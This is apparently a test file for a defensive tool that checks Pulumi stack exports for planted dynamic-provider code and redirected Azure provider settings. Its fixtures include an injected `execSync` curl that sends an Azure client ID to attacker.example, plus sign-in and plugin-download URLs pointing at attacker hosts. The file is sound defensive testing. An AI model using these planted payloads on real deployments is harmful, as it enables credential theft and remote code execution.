import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { checkStateCommand } from "../cli/checkState";
import { loadedProvider } from "../components/dynamic/loadedProvider";
import { KNOWN_PROVIDERS } from "../components/dynamic/knownProviders";
import { checkStateExport, FORWARDER_SHAPES } from "../components/dynamic/stateCheck";
import { existingGroupMembersProvider } from "../components/groupMembers";
import { signInRevocationProvider, userLicensesProvider } from "../components/licenses";
import { portalUserProvider } from "../components/practiceprotect/portalUser";
import { roleMembersProvider } from "../components/practiceprotect/roleMembers";
import { minimalImplementation } from "./support/minimalProvider";
import { FORWARDERS, serializedForwarder, shapeOf } from "./support/forwarderShapes";
import { serializeDynamicProvider } from "./support/dynamicProviderHost";
import { captureIO } from "./support/io";

/**
 * The state check before `pulumi up`: a dynamic resource's stored `__provider` runs with the deploying identity on
 * refresh and delete, so only the forwarders this program writes (today's and earlier commits', made here by the
 * SDK's own serializer from the real code) to one of its providers pass.
 */

const ROOT = resolve(__dirname, "..");
const SHAPES_FILE = join(ROOT, "components", "dynamic", "forwarderShapes.json");
const STACK = "urn:pulumi:dev::practiceprotect-users";
const NODEJS_PROVIDER = `${STACK}::pulumi:providers:pulumi-nodejs::default::0b9ad7a4-0c35-4a53-9d1e-3f2c1b7a6e01`;
const urnOf = (type: string, name: string) => `${STACK}::${type}::${name}`;

/** A resource as `pulumi stack export` writes a dynamic one: __provider in its inputs and its outputs. */
function dynamicResource(name: string, provider: unknown, type = "pulumi-nodejs:dynamic/entra:SignInRevocation") {
    return {
        urn: urnOf(type, name),
        custom: true,
        id: name,
        type,
        inputs: { __provider: provider, userId: name },
        outputs: { __provider: provider, userId: name, revokedAt: "2026-12-01T00:00:00Z" },
        provider: NODEJS_PROVIDER,
    };
}
const exported = (...resources: object[]) => ({
    version: 3,
    deployment: {
        manifest: { time: "2026-12-02T00:00:00Z", magic: "", version: "v3.270.0" },
        resources: [
            { urn: urnOf("pulumi:pulumi:Stack", "practiceprotect-users-dev"), custom: false, type: "pulumi:pulumi:Stack" },
            { urn: NODEJS_PROVIDER.replace(/::[^:]+$/, ""), custom: true, id: "0b9ad7a4-0c35-4a53-9d1e-3f2c1b7a6e01", type: "pulumi:providers:pulumi-nodejs" },
            ...resources,
        ],
    },
});
const secret = (ciphertext: string) => ({ "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", ciphertext });

describe("state check: only this program's forwarders may run on refresh and delete", function () {
    this.timeout(60_000);
    let today: string;
    before(async () => {
        today = await serializedForwarder(loadedProvider, "components/licenses/signInRevocationProvider", "signInRevocationImplementation");
    });

    it("its shapes are exactly what the SDK's serializer makes of today's forwarder and each earlier commit's", async () => {
        const generated = [];
        for (const f of FORWARDERS) generated.push(await shapeOf(f.from, f.make));
        if (process.env.UPDATE_FORWARDER_SHAPES === "1") {
            const file = JSON.parse(readFileSync(SHAPES_FILE, "utf8"));
            writeFileSync(SHAPES_FILE, `${JSON.stringify({ ...file, shapes: generated }, null, 2)}\n`);
        }
        assert.equal(generated.length, 4);
        assert.deepEqual(
            FORWARDER_SHAPES,
            generated,
            "components/dynamic/forwarderShapes.json is stale. If loadedProvider.ts changed, copy its previous version into test/fixtures/earlierForwarders.ts and FORWARDERS (states deployed by it keep its text), then run this test with UPDATE_FORWARDER_SHAPES=1",
        );
    });

    it("accepts every forwarder this project has written, for each of its providers, in inputs and outputs", async () => {
        const resources = [];
        for (const f of FORWARDERS) {
            for (const p of KNOWN_PROVIDERS) resources.push(dynamicResource(`${f.from}-${p.exportName}`, await serializedForwarder(f.make, p.modulePath, p.exportName)));
        }
        assert.equal(resources.length, FORWARDERS.length * KNOWN_PROVIDERS.length);
        assert.deepEqual(checkStateExport(exported(...resources)), { dynamicResources: resources.length, offenders: [] });
    });

    it("accepts the providers the program declares, and knows every loadedProvider(...) call in components/", async () => {
        const declared = [portalUserProvider, roleMembersProvider, userLicensesProvider, signInRevocationProvider, existingGroupMembersProvider];
        const resources = [];
        for (const [i, provider] of declared.entries()) resources.push(dynamicResource(`declared-${i}`, (await serializeDynamicProvider(provider)).text));
        assert.deepEqual(checkStateExport(exported(...resources)).offenders, []);

        const calls = sourceFiles(join(ROOT, "components")).flatMap((file) => [...readFileSync(file, "utf8").matchAll(/loadedProvider<[^>]*>\(\s*"([^"]+)",\s*"([^"]+)",?\s*\)/g)].map((m) => ({ modulePath: m[1], exportName: m[2] })));
        const key = (p: { modulePath: string; exportName: string }) => `${p.modulePath}#${p.exportName}`;
        assert.deepEqual(calls.map(key).sort(), KNOWN_PROVIDERS.map(key).sort(), "components/dynamic/knownProviders.ts lists every loadedProvider(...) call");
        for (const p of KNOWN_PROVIDERS) {
            const implementation = require(join(ROOT, p.modulePath))[p.exportName];
            assert.equal(typeof implementation?.create, "function", `${p.modulePath} exports ${p.exportName} with a create`);
        }
    });

    it("refuses a forwarder with code added, a whole provider serialized into the state, and text that is not a provider", async () => {
        const planted = today.replace("const root = process.cwd();", 'const root = process.cwd(); require("child_process").execSync("curl https://attacker.example/$ARM_CLIENT_ID");');
        assert.notEqual(planted, today);
        const inline = (await serializeDynamicProvider(minimalImplementation as never)).text;
        const { offenders, dynamicResources } = checkStateExport(exported(dynamicResource("planted", planted), dynamicResource("inline", inline), dynamicResource("number", 42)));
        assert.equal(dynamicResources, 3);
        assert.deepEqual(
            offenders.map((o) => o.urn),
            ["planted", "inline", "number"].map((n) => urnOf("pulumi-nodejs:dynamic/entra:SignInRevocation", n)),
        );
        assert.match(offenders[0].why, /^its inputs' __provider is not a forwarder this program writes \(\d+ characters, beginning "exports\.handler = __f0; var __provider = \{configure: __f1, /);
        assert.match(offenders[0].why, /; its outputs' __provider is not a forwarder/);
        assert.match(offenders[1].why, /is not a forwarder this program writes/);
        assert.match(offenders[2].why, /^its inputs' __provider is number, not the text of a provider/);
    });

    it("refuses a forwarder to a path outside the project or to a module that is not one of its providers", async () => {
        const resources = [
            dynamicResource("up", await serializedForwarder(loadedProvider, "../../tmp/evil", "handler")),
            dynamicResource("absolute", await serializedForwarder(loadedProvider, "/tmp/evil", "handler")),
            dynamicResource("other-module", await serializedForwarder(loadedProvider, "test/support/minimalProvider", "minimalImplementation")),
            dynamicResource("other-export", await serializedForwarder(loadedProvider, "components/licenses/userLicensesProvider", "assignLicenseFailure")),
        ];
        const { offenders } = checkStateExport(exported(...resources));
        assert.deepEqual(
            offenders.map((o) => o.why.replace(/; its outputs.*$/, "")),
            [
                `its inputs' __provider loads "../../tmp/evil", a module outside this program's providers (only a path inside the project, such as components/licenses/userLicensesProvider, is loaded)`,
                `its inputs' __provider loads "/tmp/evil", a module outside this program's providers (only a path inside the project, such as components/licenses/userLicensesProvider, is loaded)`,
                "its inputs' __provider loads minimalImplementation from test/support/minimalProvider, which is not one of this program's providers (components/dynamic/knownProviders.ts)",
                "its inputs' __provider loads assignLicenseFailure from components/licenses/userLicensesProvider, which is not one of this program's providers (components/dynamic/knownProviders.ts)",
            ],
        );
        // An earlier commit's forwarder to a path outside is refused just the same.
        const old = await serializedForwarder(FORWARDERS[0].make, "../evil", "x");
        assert.match(checkStateExport(exported(dynamicResource("old", old))).offenders[0].why, /loads "\.\.\/evil", a module outside/);
    });

    it("refuses a dynamic resource without __provider, one whose provider is a secret, and one in a pending operation", async () => {
        const bare = { ...dynamicResource("bare", today), inputs: { userId: "x" }, outputs: { userId: "x" } };
        const hidden = dynamicResource("hidden", secret("djE6...encrypted"));
        const shown = dynamicResource("shown", { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", plaintext: JSON.stringify(today) });
        const typedOnly = { urn: urnOf("pulumi-nodejs:dynamic:Resource", "typed"), custom: true, type: "pulumi-nodejs:dynamic:Resource", inputs: {}, outputs: {} };
        const state = exported(bare, hidden, shown, typedOnly);
        (state.deployment as Record<string, unknown>).pending_operations = [{ type: "deleting", resource: dynamicResource("pending", "module.exports = {}") }];
        const { offenders, dynamicResources } = checkStateExport(state);
        assert.equal(dynamicResources, 5);
        assert.deepEqual(
            offenders.map((o) => [o.urn.split("::").pop(), o.why.slice(0, 70)]),
            [
                ["bare", "a dynamic resource without a __provider: not one this program wrote"],
                ["hidden", "its inputs' __provider is stored as a secret, which this program's for"],
                ["typed", "a dynamic resource without a __provider: not one this program wrote"],
                ["pending", "its inputs' __provider is not a forwarder this program writes (19 char"],
            ],
        );
    });

    it("leaves other resources alone, however they look", () => {
        const user = { urn: urnOf("azuread:index/user:User", "firm-jane"), custom: true, type: "azuread:index/user:User", inputs: { password: secret("x") }, outputs: { displayName: "Jane" } };
        assert.deepEqual(checkStateExport(exported(user)), { dynamicResources: 0, offenders: [] });
    });

    it("refuses a provider resource that would load another plugin or sign in elsewhere, and accepts this program's default providers", () => {
        const provider = (pkg: string, name: string, inputs: object) => ({ urn: urnOf(`pulumi:providers:${pkg}`, name), custom: true, id: `${name}-id`, type: `pulumi:providers:${pkg}`, inputs, outputs: inputs });
        const fine = [
            provider("azuread", "default_6_9_1", { version: "6.9.1", tenantId: "7c4d2f1e-8a3b-4c5d-9e6f-1a2b3c4d5e6f" }),
            provider("azure-native", "default_3_28_0", { version: "3.28.0", __internal: {} }),
        ];
        assert.deepEqual(checkStateExport(exported(...fine)), { dynamicResources: 0, offenders: [] });
        const planted = [
            provider("azuread", "redirected", { version: "6.9.1", metadataHost: "login.attacker.example", oidcRequestUrl: "https://attacker.example/token" }),
            provider("azure-native", "downloaded", { version: "3.28.0", __internal: { pluginDownloadURL: "github://api.github.com/attacker" } }),
            provider("azuread", "old-download", { version: "6.9.1", pluginDownloadURL: "https://attacker.example/plugins" }),
            provider("command", "default_1_0_0", { version: "1.0.0" }),
        ];
        const { offenders } = checkStateExport(exported(...planted));
        assert.deepEqual(
            offenders.map((o) => [o.urn.split("::").pop(), o.why.split(":")[0]]),
            [
                ["redirected", "an azuread provider stored with metadataHost, oidcRequestUrl"],
                ["downloaded", "an azure-native provider stored with pluginDownloadURL"],
                ["old-download", "an azuread provider stored with pluginDownloadURL"],
                ["default_1_0_0", "a provider of the package command, which this program does not use (only azuread, azure-native, pulumi-nodejs)"],
            ],
        );
    });

    describe("npm run check-state", () => {
        let dir: string;
        beforeEach(() => (dir = mkdtempSync(join(tmpdir(), "check-state-"))));
        afterEach(() => rmSync(dir, { recursive: true, force: true }));

        it("exit 0 for a state of this program's forwarders, read from --file", async () => {
            writeFileSync(join(dir, "export.json"), JSON.stringify(exported(dynamicResource("jane", today))));
            const io = captureIO();
            assert.equal(await checkStateCommand(["--file", join(dir, "export.json")], io, () => Promise.reject(new Error("stdin is not read"))), 0);
            assert.deepEqual(io.stdout, []);
            assert.deepEqual(io.stderr, [`${join(dir, "export.json")}: 1 dynamic resource, each with a forwarder to one of this program's providers`]);
        });

        it("exit 1 naming every offender, read from standard input", async () => {
            const io = captureIO();
            const state = exported(dynamicResource("jane", today), dynamicResource("planted", "require('child_process')"));
            assert.equal(await checkStateCommand([], io, async () => JSON.stringify(state)), 1);
            assert.equal(io.stdout.length, 1);
            assert.match(io.stdout[0], /^urn:pulumi:dev::practiceprotect-users::pulumi-nodejs:dynamic\/entra:SignInRevocation::planted: its inputs' __provider is not a forwarder/);
            assert.match(io.stderr[0], /^standard input: 1 resource with a provider this program did not write \(2 dynamic resources checked\); nothing was deployed\. .*pulumi state delete <urn>/);
        });

        it("exit 2 for input that is not a stack export", async () => {
            const io = captureIO();
            assert.equal(await checkStateCommand([], io, async () => "Pulumi: not logged in"), 2);
            assert.deepEqual(io.stderr, ["standard input: not JSON; give the output of `pulumi stack export --stack <stack>`"]);
            assert.equal(await checkStateCommand([], io, async () => "{}"), 2);
            assert.match(io.stderr[1], /no deployment object/);
        });

        it("runs as a process: `pulumi stack export | npm run --silent check-state` fails the step on an offender", () => {
            const run = (input: object) => {
                try {
                    execFileSync("npm", ["run", "--silent", "check-state"], { cwd: ROOT, input: JSON.stringify(input), stdio: "pipe" });
                    return 0;
                } catch (e) {
                    return (e as { status: number }).status;
                }
            };
            assert.equal(run(exported(dynamicResource("jane", today))), 0);
            assert.equal(run(exported(dynamicResource("planted", "module.exports = {}"))), 1);
        });
    });
});

function sourceFiles(dir: string): string[] {
    return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sourceFiles(join(dir, e.name)) : e.name.endsWith(".ts") ? [join(dir, e.name)] : []));
}
